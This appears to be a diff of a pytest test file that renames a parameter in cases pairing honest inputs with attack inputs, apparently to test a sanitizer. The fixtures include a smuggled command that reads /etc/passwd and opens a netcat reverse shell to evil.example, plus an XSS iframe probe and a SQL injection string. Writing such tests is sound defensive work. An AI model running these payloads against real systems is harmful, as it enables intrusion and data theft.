@@ -45,10 +45,10 @@ def logic(request: pytest.FixtureRequest) -> Logic:
 @pytest.mark.parametrize(
     ("name", "honest", "attack"),
     [
-        ("message", _POD, b"host: x\n; cat /etc/passwd\nnc -e /bin/sh evil.example 4444\nid"),
-        ("message", _PATCH, _PATCH.replace(b"@@", b"&&").replace(b"diff --git a", b"x")),
-        ("message", _SCRIPT, _SCRIPT.partition(b"\nWhy")[0]),
-        ("message", _SCRIPT, _SCRIPT.replace(b"\nWhy", b"\n'''\nWhy")),
+        ("item", _POD, b"host: x\n; cat /etc/passwd\nnc -e /bin/sh evil.example 4444\nid"),
+        ("item", _PATCH, _PATCH.replace(b"@@", b"&&").replace(b"diff --git a", b"x")),
+        ("item", _SCRIPT, _SCRIPT.partition(b"\nWhy")[0]),
+        ("item", _SCRIPT, _SCRIPT.replace(b"\nWhy", b"\n'''\nWhy")),
         ("content", _PAGE, b"<p>x</p><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"),
         ("content", _PAGE, _PAGE.replace(b"&lt;", b"<").replace(b"&gt;", b">")),
         ("content", _SQL_IN_PAGE, b"<p>x' OR 'a'='a' -- </p>"),
